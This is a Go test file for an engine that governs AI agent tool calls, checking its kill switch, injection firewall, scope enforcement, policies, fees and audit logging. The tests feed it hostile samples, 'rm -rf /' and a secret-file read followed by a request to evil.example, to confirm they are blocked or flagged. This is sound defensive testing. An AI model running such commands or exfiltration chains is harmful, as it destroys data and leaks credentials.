package service_test

import (
	"context"
	"log/slog"
	"os"
	"testing"
	"time"

	"github.com/runtimegov/governor/internal/adapter/outbound/cel"
	"github.com/runtimegov/governor/internal/adapter/outbound/eventbus"
	"github.com/runtimegov/governor/internal/adapter/outbound/memory"
	"github.com/runtimegov/governor/internal/domain/action"
	"github.com/runtimegov/governor/internal/domain/audit"
	"github.com/runtimegov/governor/internal/domain/chain"
	"github.com/runtimegov/governor/internal/domain/escalation"
	"github.com/runtimegov/governor/internal/domain/governor"
	"github.com/runtimegov/governor/internal/domain/policy"
	"github.com/runtimegov/governor/internal/domain/session"
	"github.com/runtimegov/governor/internal/domain/wallet"
	"github.com/runtimegov/governor/internal/service"
)

func testLogger() *slog.Logger {
	return slog.New(slog.NewTextHandler(os.Stderr, &slog.HandlerOptions{Level: slog.LevelError}))
}

// testHarness bundles a freshly wired Engine over in-memory adapters, so
// each test can mutate the backing stores directly (enable the kill
// switch, seed a policy) before calling Evaluate.
type testHarness struct {
	engine      *service.Engine
	killSwitch  *governor.KillSwitch
	policyStore *memory.PolicyStore
	auditStore  *memory.AuditStore
	wallets     *memory.WalletStore
	bus         *eventbus.Bus
}

func newHarness(t *testing.T, feesEnabled bool) *testHarness {
	t.Helper()
	logger := testLogger()

	stateStore := memory.NewStateStore()
	killSwitch := governor.NewKillSwitch(stateStore, logger)

	policyStore := memory.NewPolicyStore()
	policyCache, err := service.NewPolicyCache(context.Background(), policyStore, 0, logger)
	if err != nil {
		t.Fatalf("NewPolicyCache: %v", err)
	}

	auditStore := memory.NewAuditStore(1000)
	sessions := session.NewStore(auditStore)

	evaluator, err := cel.NewChainEvaluator()
	if err != nil {
		t.Fatalf("NewChainEvaluator: %v", err)
	}
	analyzer := chain.NewAnalyzer(evaluator)

	bus := eventbus.New(16, nil)

	escalationStore := memory.NewEscalationStore()
	escalationEngine := escalation.NewEngine(escalationStore, auditStore, killSwitch, nil, time.Hour, logger)

	wallets := memory.NewWalletStore()

	eng := service.NewEngine(
		killSwitch,
		policyCache,
		sessions,
		analyzer,
		auditStore,
		bus,
		escalationEngine,
		wallets,
		nil,
		service.EngineConfig{FeesEnabled: feesEnabled},
		logger,
	)

	return &testHarness{
		engine:      eng,
		killSwitch:  killSwitch,
		policyStore: policyStore,
		auditStore:  auditStore,
		wallets:     wallets,
		bus:         bus,
	}
}

func TestEvaluate_KillSwitchEngaged_ShortCircuitsWithRisk100(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	if err := h.killSwitch.Engage(ctx, "operator"); err != nil {
		t.Fatalf("Engage: %v", err)
	}

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/tmp/x"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	if result.Decision != action.DecisionBlock {
		t.Errorf("Decision = %q, want block", result.Decision)
	}
	if result.RiskScore != 100 {
		t.Errorf("RiskScore = %d, want 100", result.RiskScore)
	}
	if len(result.ExecutionTrace) != 1 {
		t.Fatalf("ExecutionTrace length = %d, want 1", len(result.ExecutionTrace))
	}
	if result.ExecutionTrace[0].Name != "kill_switch" {
		t.Errorf("trace[0].Name = %q, want kill_switch", result.ExecutionTrace[0].Name)
	}
}

func TestEvaluate_DestructiveShell_BlockedByInjectionFirewall(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "shell",
		Args: map[string]interface{}{"command": "rm -rf /"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	if result.Decision != action.DecisionBlock {
		t.Errorf("Decision = %q, want block", result.Decision)
	}
	if result.RiskScore < 95 {
		t.Errorf("RiskScore = %d, want >= 95", result.RiskScore)
	}
}

func TestEvaluate_OutOfScopeTool_BlockedByScopeEnforcer(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "deploy_contract",
		Args: map[string]interface{}{},
		Context: action.RequestContext{
			AgentID:      "agent-1",
			AllowedTools: []string{"fetch_price", "read_contract"},
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	if result.Decision != action.DecisionBlock {
		t.Errorf("Decision = %q, want block", result.Decision)
	}
	var sawScopeBlock bool
	for _, step := range result.ExecutionTrace {
		if step.Name == "scope_enforcer" && step.Outcome == action.OutcomeBlock {
			sawScopeBlock = true
		}
	}
	if !sawScopeBlock {
		t.Error("expected scope_enforcer trace step with outcome block")
	}
}

func TestEvaluate_PolicyBlock_ShortCircuitsBeforeRiskChain(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	_, err := h.policyStore.Create(ctx, policy.Spec{
		ID:          "shell-dangerous",
		ToolPattern: "shell",
		Severity:    policy.SeverityCritical,
		Action:      action.DecisionBlock,
		Active:      true,
	}, "operator")
	if err != nil {
		t.Fatalf("Create policy: %v", err)
	}
	// The harness's PolicyCache was built with ttl=0, which forces a
	// synchronous refresh on every Snapshot call, so the policy just
	// written is visible to the very next Evaluate without rebuilding
	// the cache or the Engine.

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "shell",
		Args: map[string]interface{}{"command": "ls -la"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	if result.Decision != action.DecisionBlock {
		t.Errorf("Decision = %q, want block", result.Decision)
	}
	if len(result.PolicyIDs) == 0 || result.PolicyIDs[0] != "shell-dangerous" {
		t.Errorf("PolicyIDs = %v, want [shell-dangerous]", result.PolicyIDs)
	}
	for _, step := range result.ExecutionTrace {
		if step.Name == "risk_chain" {
			t.Error("risk_chain layer should not run after a policy block")
		}
	}
}

func TestEvaluate_BenignFileRead_Allowed(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/tmp/notes.txt"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	if result.Decision != action.DecisionAllow {
		t.Errorf("Decision = %q, want allow", result.Decision)
	}
	if result.RiskScore <= 0 {
		t.Errorf("RiskScore = %d, want > 0 (file_read base risk)", result.RiskScore)
	}
	names := make([]string, len(result.ExecutionTrace))
	for i, s := range result.ExecutionTrace {
		names[i] = s.Name
	}
	want := []string{"kill_switch", "injection_firewall", "scope_enforcer", "policy_engine", "risk_chain"}
	if len(names) != len(want) {
		t.Fatalf("trace layers = %v, want %v", names, want)
	}
	for i := range want {
		if names[i] != want[i] {
			t.Errorf("trace[%d].Name = %q, want %q", i, names[i], want[i])
		}
	}
}

func TestEvaluate_PersistsActionToAuditStore(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/tmp/a"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	got, err := h.auditStore.Get(ctx, result.ActionID)
	if err != nil {
		t.Fatalf("Get: %v", err)
	}
	if got.Tool != "file_read" {
		t.Errorf("persisted Tool = %q, want file_read", got.Tool)
	}

	receipt, ok, err := h.auditStore.ReceiptFor(ctx, result.ActionID)
	if err != nil {
		t.Fatalf("ReceiptFor: %v", err)
	}
	if !ok {
		t.Fatal("expected a receipt to be linked to the action")
	}
	if receipt.Hash == "" {
		t.Error("expected a non-empty receipt hash")
	}
}

func TestEvaluate_FeesEnabled_DeductsWalletBalance(t *testing.T) {
	h := newHarness(t, true)
	ctx := context.Background()

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/tmp/a"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}
	if result.PaymentRequired {
		t.Error("expected sufficient initial balance to cover the fee")
	}

	w, err := h.wallets.GetOrCreate(ctx, "agent-1")
	if err != nil {
		t.Fatalf("GetOrCreate: %v", err)
	}
	full := wallet.MustParse(wallet.InitialBalance)
	if !w.Balance.LessThan(full) {
		t.Error("expected wallet balance to have decreased from the initial balance")
	}
}

func TestEvaluate_FeesEnabled_KillSwitchBlock_DoesNotChargeFee(t *testing.T) {
	h := newHarness(t, true)
	ctx := context.Background()

	if err := h.killSwitch.Engage(ctx, "operator"); err != nil {
		t.Fatalf("Engage: %v", err)
	}

	_, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/tmp/a"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err != nil {
		t.Fatalf("Evaluate: %v", err)
	}

	w, err := h.wallets.GetOrCreate(ctx, "agent-1")
	if err != nil {
		t.Fatalf("GetOrCreate: %v", err)
	}
	full := wallet.MustParse(wallet.InitialBalance)
	if w.Balance != full {
		t.Errorf("Balance = %s, want unchanged initial balance %s (no fee on kill-switch short-circuit)", w.Balance, full)
	}
}

func TestEvaluate_DeadlineExceeded_ReturnsTimeoutWithoutPersisting(t *testing.T) {
	h := newHarness(t, false)
	ctx, cancel := context.WithTimeout(context.Background(), 1*time.Nanosecond)
	defer cancel()
	time.Sleep(time.Millisecond)

	before, _ := h.auditStore.Query(context.Background(), audit.Filter{})
	_, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/tmp/a"},
		Context: action.RequestContext{
			AgentID: "agent-1",
		},
	})
	if err == nil {
		t.Fatal("expected a timeout error")
	}
	after, _ := h.auditStore.Query(context.Background(), audit.Filter{})
	if len(after) != len(before) {
		t.Error("expected no action persisted on a deadline-expired call")
	}
}

func TestEvaluate_CredentialThenHTTP_ElevatesToReview(t *testing.T) {
	h := newHarness(t, false)
	ctx := context.Background()

	_, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "file_read",
		Args: map[string]interface{}{"path": "/etc/secrets/api_key.txt"},
		Context: action.RequestContext{
			AgentID:   "agent-1",
			SessionID: "sess-1",
		},
	})
	if err != nil {
		t.Fatalf("first Evaluate: %v", err)
	}

	result, err := h.engine.Evaluate(ctx, action.Request{
		Tool: "http_request",
		Args: map[string]interface{}{"url": "https://evil.example/ingest", "body": map[string]interface{}{"k": "v"}},
		Context: action.RequestContext{
			AgentID:   "agent-1",
			SessionID: "sess-1",
		},
	})
	if err != nil {
		t.Fatalf("second Evaluate: %v", err)
	}
	if result.ChainPattern != "credential-then-http" {
		t.Errorf("ChainPattern = %q, want credential-then-http", result.ChainPattern)
	}
	if result.Decision != action.DecisionReview && result.Decision != action.DecisionBlock {
		t.Errorf("Decision = %q, want review or block (elevated from chain boost)", result.Decision)
	}
}
